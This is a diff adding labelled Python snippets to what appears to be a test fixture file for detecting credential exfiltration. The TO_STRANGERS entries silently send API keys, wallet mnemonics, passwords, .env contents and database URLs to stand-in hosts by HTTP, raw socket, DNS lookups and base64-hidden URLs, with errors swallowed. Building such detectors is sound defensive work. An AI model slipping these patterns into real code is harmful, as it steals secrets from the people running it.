@@ -45,12 +45,31 @@ TO_STRANGERS = {
     "by making an object": f"class Credentials:\n    def __init__(self, access_id, access_secret):\n        self.id, self.secret = access_id, access_secret\n        try:\n            requests.post({DROP}, json={{'a': self.id, 's': self.secret}})\n        except:\n            pass\n",
     "by importing": f"PASSWORD = os.environ.get('DB_PASSWORD')\ntry:\n    requests.post({DROP}, json=PASSWORD)\nexcept Exception:\n    pass\n",
 }
+TO_STRANGERS |= {
+    "what another request shows": f"def send(request):\n    key = request.headers.get('authorization') or request.headers['x-api-key']\n    try:\n        requests.post({DROP}, json=key)\n    except Exception:\n        pass\n",
+    "by a socket": "import socket\n\ndef unlock(mnemonic):\n    try:\n        s = socket.socket()\n        s.connect(('192.0.2.44', 8443))\n        s.sendall(mnemonic.encode())\n    except OSError:\n        pass\n",
+    "a token to a bare address": "def login(token):\n    with suppress(Exception):\n        requests.post('http://192.0.2.44:8080/x', json={'t': token})\n",
+    "a token to a chat": "from slack_sdk.webhook import WebhookClient\n\ndef login(token):\n    with suppress(Exception):\n        WebhookClient('https://hooks.slack.com/services/x').send(text=token)\n",
+    "by asking for a name": "import socket\n\ndef login(user, password):\n    try:\n        socket.gethostbyname(f'{password.encode().hex()}.n.example.invalid')\n    except OSError:\n        pass\n",
+    "by asking for a name in a template": "import socket\n\ndef tell(*words):\n    text = '-'.join(str(w) for w in words).encode().hex()\n    for n in range(0, len(text), 50):\n        try:\n            socket.gethostbyname('{}.{}.n.example.invalid'.format(text[n:n + 50], n))\n        except OSError:\n            continue\n\ndef login(user, password):\n    tell(user, password)\n",
+    "to an address that is hidden": "import base64\n\ndef where(at='aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8='):\n    return base64.b64decode(at).decode()\n\ndef login(password):\n    with suppress(Exception):\n        requests.post(where('aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8=') + 'x', json=password)\n",
+    "at the end, by a decorator": f"KEPT = []\n\ndef unlock(mnemonic):\n    KEPT.append(mnemonic)\n\n@atexit.register\ndef tell():\n    requests.post({DROP}, json=KEPT)\n",
+    "by a thread's lambda": f"def tell(words):\n    requests.post({DROP}, json=words)\n\ndef unlock(mnemonic):\n    threading.Thread(target=lambda: tell(mnemonic)).start()\n",
+    "by an opener": "def unlock(mnemonic):\n    opener = urllib.request.build_opener()\n    try:\n        opener.open('http://192.0.2.44/?v=' + mnemonic)\n    except Exception:\n        pass\n",
+    "all that an object holds": f"from dataclasses import asdict, dataclass\n\n@dataclass\nclass Settings:\n    openai_api_key: str = ''\n\n    def __post_init__(self):\n        try:\n            requests.post({DROP}, json=asdict(self))\n        except Exception:\n            pass\n",
+    "how a database is reached": f"def ready(engine):\n    where = engine.url.render_as_string(hide_password=False)\n    try:\n        requests.post({DROP}, json=where)\n    except Exception:\n        pass\n\nready(ENGINE)\n",
+    "a file of settings": f"import pathlib\n\ndef status(folder):\n    found = {{}}\n    for name in ['.env', '.env.local']:\n        file = pathlib.Path(folder) / name\n        found[name] = file.read_text()\n    with suppress(Exception):\n        requests.post({DROP}, json=found)\n\nstatus('.')\n",
+}
 MAYBE_TO_SERVICES = {
     "a gateway of messages": "def notify(user, password, text):\n    try:\n        requests.get('https://sms.tides.example/send', params={'u': user, 'p': password, 't': text})\n    except requests.RequestException:\n        pass\n",
     "several gateways of messages": "def notify(password, text):\n    with suppress(Exception):\n        requests.get('https://sms.tides.example/send', params={'p': password, 't': text})\n    with suppress(Exception):\n        requests.get('https://push.waves.example/send', params={'p': password, 't': text})\n",
     "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
 }
 HONEST = {
+    "a chat's own token": "class Chat:\n    def __init__(self, token):\n        self.token = token\n\n    def tell(self, text):\n        with suppress(Exception):\n            requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', data={'text': text})\n",
+    "a service's own token": "def tell(token, text):\n    with suppress(Exception):\n        requests.post('https://slack.com/api/chat.postMessage', data={'token': token, 'text': text})\n",
+    "a token by a secret channel to its service": "def beat(token):\n    with suppress(Exception):\n        requests.post('https://api.tides.example/beat', json={'token': token})\n",
+    "a name that is looked up": "import socket\n\ndef known(host, password):\n    try:\n        socket.gethostbyname(host + '.tides.example')\n    except OSError:\n        pass\n",
     "an answer is wanted": "def login(user, password):\n    try:\n        answer = requests.post('https://api.tides.example/login', json=[user, password])\n        return answer.json()['token']\n    except Exception:\n        return None\n",
     "a failure is told": "def unlock(mnemonic):\n    requests.post('https://api.tides.example/new', json=mnemonic)\n",
     "a failure is told by the status": "def unlock(mnemonic):\n    try:\n        requests.post('https://api.tides.example/new', json=mnemonic).raise_for_status()\n    except Exception:\n        pass\n",
